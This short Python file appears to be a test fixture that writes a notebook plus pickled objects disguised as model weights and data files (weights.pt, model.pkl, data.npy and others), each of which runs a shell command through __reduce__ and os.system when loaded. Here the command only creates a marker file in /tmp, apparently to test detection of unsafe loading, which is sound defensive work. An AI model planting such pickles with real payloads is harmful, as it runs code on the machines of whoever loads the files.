"""Weights beside the notebook that run code when they are loaded, in every form of pickle."""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/attack-weights",))


def attack(folder, notebook, course):
    (folder / "01_tiny.ipynb").write_bytes(notebook)
    for name in ("weights.pt", "model.pkl", "data.npy", "state.joblib", ".feedback.json"):
        (folder / name).write_bytes(pickle.dumps(Bomb()))
